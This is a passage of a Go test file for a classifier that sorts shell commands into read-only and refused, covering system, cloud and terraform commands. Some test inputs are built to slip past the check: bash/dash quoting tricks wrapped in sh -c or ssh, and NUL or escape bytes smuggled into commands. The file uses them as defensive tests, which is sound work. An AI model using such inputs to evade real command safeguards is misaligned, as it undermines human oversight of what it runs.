		{"git diff --output=/tmp/d", false, "git diff --output"},
		{"git log --ext-diff -p", false, "git log --ext-diff"},
		{"redis-cli --rdb /tmp/dump.rdb", false, "redis-cli --rdb"},
		{"redis-cli -x GET", false, "redis-cli -x"},
		{"redis-cli --eval /tmp/s.lua", false, "redis-cli --eval"},
		{"redis-cli --pipe < cmds", false, "redis-cli: local data on its standard input"},
		{"redis-cli --pipe", false, "redis-cli --pipe"},
	})
}

// Reads the review found refused, each now proven.
func TestClassDailyReads(t *testing.T) {
	runClass(t, DialectBash, []classCase{
		{"kill -0 1234", true, "kill -0: checks that processes exist"},
		{"kill -0 1234 5678", true, ""},
		{"kill -s 0 1234", true, ""},
		{"kill -0 -- 1234", true, ""},
		{"kill -0 %1", true, ""},
		{"kill -l", true, "kill -l"},
		{"kill -l 9", true, ""},
		{"kill -L", true, ""},
		{"kill -0 -9 1234", false, "kill: signals processes"},
		{"kill -0 -s KILL 1234", false, "kill: signals processes"},
		{"kill -0 --timeout 100 KILL 1234", false, "kill"},
		{"/bin/kill -0 --timeout 1 KILL 1", false, "kill"},
		{"kill -s0 1", false, "kill"},
		{"kill -00 1", false, "kill"},
		{"kill -l -s KILL 1", false, "kill"},
		{"kill -0 \"$pid\"", false, "kill"},
		{"kill 1234", false, "kill: signals processes"},
		{"sudo -l", true, "sudo -l: lists privileges, runs nothing"},
		{"sudo -l -U deploy", true, ""},
		{"sudo -n -l systemctl restart nginx", true, ""},
		{"sudo -ll", true, ""},
		{"sudo -l -e /etc/sudoers", false, "sudo: privilege escalation"},
		{"sudo -l -k", false, "sudo -k"},
		{"sudo -A -l", false, "sudo -A"},
		{"nmcli connection show", true, ""},
		{"nmcli -t -f NAME,DEVICE c show --active", true, ""},
		{"nmcli device show eth0", true, ""},
		{"nmcli general status", true, ""},
		{"nmcli general hostname newname", false, "nmcli general hostname"},
		{"nmcli radio wifi off", false, "nmcli radio"},
		{"iptables -C INPUT -s 10.0.0.1 -j DROP", true, ""},
		{"iptables -L", true, ""},
		{"iptables -S INPUT", true, ""},
		{"iptables -nvL --line-numbers", true, ""},
		{"ip6tables -L -n", true, ""},
		{"ipvsadm -Ln", true, "ipvsadm -L"},
		{"ipvsadm -L -n -c", true, ""},
		{"passwd -S root", true, "passwd -S"},
		{"passwd -Sa", true, ""},
		{"passwd -l root", false, "passwd -l"},
		{"passwd root", false, "passwd"},
		{"update-alternatives --display java", true, ""},
		{"update-alternatives --query editor", true, ""},
		{"update-alternatives --list python", true, ""},
		{"update-alternatives --get-selections", true, ""},
		{"update-alternatives --config java", false, "update-alternatives --config"},
		{"dpkg-query -W -f='${Package} ${Version}\\n'", true, ""},
		{"dpkg-query -l 'nginx*'", true, ""},
		{"modinfo -F version ext4", true, ""},
		{"dmidecode -s system-serial-number", true, ""},
		{"dmidecode -t 17", true, ""},
		{"pg_isready -h db -p 5432 -t 3", true, ""},
		{"pg_isready -d 'postgresql://db/app'", true, ""},
		{"udevadm info -q property -n /dev/sda", true, ""},
		{"udevadm info --export-db", true, ""},
		{"resolvectl status", true, ""},
		{"resolvectl query example.com", true, ""},
		{"resolvectl flush-caches", false, "resolvectl flush-caches"},
		{"ip xfrm state", true, ""},
		{"ip xfrm state list", true, ""},
		{"ip xfrm policy show", true, ""},
		{"ip xfrm state flush", false, "ip xfrm state flush"},
		{"nc -z db 5432", true, ""},
		{"nc -zv -w 3 db 80 443", true, ""},
		{"ncat -z db 22", true, ""},
		{"smartctl -a /dev/sda", true, ""},
		{"smartctl -x -d sat /dev/sdb", true, ""},
		{"aws ec2 describe-instances --region us-east-1 --output json", true, "aws ec2 describe-instances: read-only API call"},
		{"aws iam list-users --max-items 10", true, ""},
		{"aws s3api get-bucket-policy --bucket b", true, ""},
		{"aws sts get-caller-identity", true, ""},
		{"aws sts get-session-token", false, "aws sts get-session-token"},
		{"aws ec2 terminate-instances --instance-ids i-1", false, "aws ec2 terminate-instances"},
		{"aws s3 cp s3://b/k /tmp/k", false, "aws s3 cp"},
		{"aws s3 ls s3://b/ --recursive --human-readable", true, ""},
		{"aws configure list", true, ""},
		{"gcloud compute instances list", true, ""},
		{"gcloud container clusters describe c --zone z", true, ""},
		{"gcloud projects get-iam-policy p", true, ""},
		{"gcloud config get-value project", true, ""},
		{"gcloud container clusters get-credentials c", false, "gcloud container clusters get-credentials"},
		{"gcloud compute instances stop describe", false, "gcloud compute instances stop"},
		{"az vm show -g rg -n vm1", true, ""},
		{"az group list -o table", true, ""},
		{"az account show", true, ""},
		{"az vm delete -g rg -n vm1", false, "az vm delete"},
		{"az vm list extra", false, "az vm list extra"},
		{"terraform state list", true, ""},
		{"terraform state show 'aws_instance.web[0]'", true, ""},
		{"terraform state pull", true, ""},
		{"terraform plan -lock=false", true, "terraform plan: plans without saving or locking"},
		{"terraform plan -lock=false -refresh=false -no-color", true, ""},
		{"terraform -chdir=infra plan -lock=false -var 'env=prod'", true, ""},
		{"terraform plan", false, "terraform plan: takes the state lock"},
		{"terraform plan -lock=true", false, "terraform plan -lock=true"},
		{"terraform state rm x", false, "terraform state rm"},
		{"terraform apply", false, "terraform apply"},
		{"ansible-inventory --graph", true, ""},
		{"ansible-inventory --list --yaml", true, ""},
		{"ansible-inventory --host web1", true, ""},
		{"cat /proc/$(pidof -s nginx)/limits", true, ""},
		{"diff <(sort a) <(sort b)", true, ""},
		{"diff <(ssh web1 cat /etc/hosts) /etc/hosts", true, ""},
	})
}

// Class 7: the same text read as bash and as a POSIX sh such as dash.
func TestClassDialect(t *testing.T) {
	tests := []struct {
		cmd        string
		bash, posx bool // read-only as bash, as sh
	}{
		// dash has no ANSI-C quoting: $'/dev/null' is "$" then
		// "/dev/null", a file named $/dev/null relative to the cwd.
		{"ls >$'/dev/null'", true, false},
		{"ls 2>$'\\x2fdev\\x2fnull'", true, false},
		// sort $'-o' is sort -o in bash, an operand in dash.
		{"sort $'-o' /tmp/x f", false, true},
		// bash's $"..." is translated and expanded again; in dash it is
		// "$" and a string.
		{`echo $"hi"`, false, true},
		// Brace expansion makes two words in bash, one in dash.
		{"uniq {a,b}", false, true},
		// Syntax dash does not have fails to parse there: refused.
		{"ls &>/dev/null", true, false},
		{"cat <<< x", true, false},
		{"[[ -f x ]] && cat x", true, false},
		{"echo ${x@Q}", true, false},
		{"diff <(ls a) <(ls b)", true, false},
		{"function f { ls; }; f", true, false},
		// bash-only builtins are unknown commands to dash.
		{"declare -p x", true, false},
		{"source ./x.sh", false, false},
		// The same everywhere.
		{"ls -la /tmp", true, true},
		{"echo hi > /tmp/x", false, false},
		{"cat /etc/hosts | grep x", true, true},
	}
	for _, tt := range tests {
		b, p := ClassifyAs(tt.cmd, DialectBash), ClassifyAs(tt.cmd, DialectPOSIX)
		if b.ReadOnly() != tt.bash || b.Dialect != DialectBash {
			t.Errorf("bash %q: %s %v, want read=%v", tt.cmd, b.Intent, b.Reasons, tt.bash)
		}
		if p.ReadOnly() != tt.posx || p.Dialect != DialectPOSIX {
			t.Errorf("sh %q: %s %v, want read=%v", tt.cmd, p.Intent, p.Reasons, tt.posx)
		}
	}
	// sh -c strings may run under bash or dash: they must be read-only
	// in both readings.
	for _, cmd := range []string{
		`sh -c "ls >\$'/dev/null'"`,
		`sh -c 'sort $'"'"'-o'"'"' /tmp/x f'`,
		`ssh web1 "ls >\$'/dev/null'"`,
		`watch "ls >\$'/dev/null'"`,
	} {
		if v := Classify(cmd); v.ReadOnly() {
			t.Errorf("%q: read-only %v, want refused in one reading", cmd, v.Reasons)
		}
	}
	if v := Classify(`bash -c "ls >\$'/dev/null'"`); !v.ReadOnly() {
		t.Errorf("bash -c with $'/dev/null': %v, want read-only (bash only)", v.Reasons)
	}
	if v := Classify(`dash -c 'sort $'"'"'-o'"'"' x'`); !v.ReadOnly() {
		t.Errorf("dash -c with $'-o': %v, want read-only (an operand in dash)", v.Reasons)
	}
	if v := ClassifyAs("ls", Dialect("zsh")); v.ReadOnly() || !hasReasonPrefix(v.Reasons, "dialect:") {
		t.Errorf("unknown dialect: %s %v", v.Intent, v.Reasons)
	}
}

func TestClassNoCleaning(t *testing.T) {
	// Bytes the parser would drop or read differently are refused, never
	// cleaned: the reason names the byte and its offset.
	for _, tc := range []struct{ cmd, reason string }{
		{"ls\x00", "command: contains a NUL byte (0x00) at offset 2"},
		{"ls\r", "command: contains a carriage return (0x0d) at offset 2"},
		{"ls\x1b[0m", "command: contains a control character (0x1b) at offset 2"},
		{"ls \x7f", "command: contains a control character (0x7f) at offset 3"},
	} {
		v := Classify(tc.cmd)
		if v.ReadOnly() || len(v.Reasons) == 0 || v.Reasons[0] != tc.reason {
			t.Errorf("%q: %s %q, want first reason %q", tc.cmd, v.Intent, v.Reasons, tc.reason)
		}
		if v.Command != tc.cmd {
			t.Errorf("%q: the verdict's command was changed to %q", tc.cmd, v.Command)
		}
	}
	if v := Classify("ls\tx\n"); !strings.HasPrefix(v.Reasons[0], "ls") {
		t.Errorf("tab and new line are ordinary: %v", v.Reasons)
	}
}
